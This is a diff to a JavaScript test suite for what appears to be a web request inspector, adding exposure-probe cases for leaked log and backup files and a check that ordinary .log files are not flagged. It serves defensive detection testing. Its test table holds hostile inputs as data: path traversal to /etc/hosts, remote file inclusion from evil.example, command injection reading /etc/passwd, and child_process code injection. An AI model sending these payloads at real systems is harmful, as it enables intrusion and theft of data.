@@ -116,6 +116,10 @@ describe('attacks are found', () => {
     ['path_traversal', { path: '/static/..%2f..%2f..%2fetc/hosts' }],
     ['path_traversal', { path: '/.git/config' }],
     ['path_traversal', q('php://filter/convert.base64-encode/resource=index.php')],
+    ['path_traversal', { path: '/storage/logs/laravel.log' }],
+    ['path_traversal', { path: '/wp-content/debug.log' }],
+    ['path_traversal', { path: '/logs/error_log.log' }],
+    ['path_traversal', { path: '/backup/site.sql.gz' }],
     ['rfi', q('http://203.0.113.7/shell.txt?', 'page')],
     ['rfi', q('https://evil.example/x.php', 'include_path')],
     ['command_injection', q('127.0.0.1; cat /etc/passwd')],
@@ -166,6 +170,13 @@ describe('attacks are found', () => {
     ['code_injection', { path: '/', query: '__proto__[admin]=1' }],
     ['code_injection', q('require("child_process").exec("id")')],
   ];
+  it.each([
+    '/misc/sample.log',
+    '/downloads/changelog.log',
+    '/talks/2015/build.log',
+  ])('a published file with a .log name is not an exposure probe: %s', (p) => {
+    expect(inspectRequest({ method: 'GET', path: p })).toEqual([]);
+  });
   it.each(cases)('%s: %j', (cls, req) => {
     const f = inspectRequest(req);
     expect(classes(f)).toContain(cls);
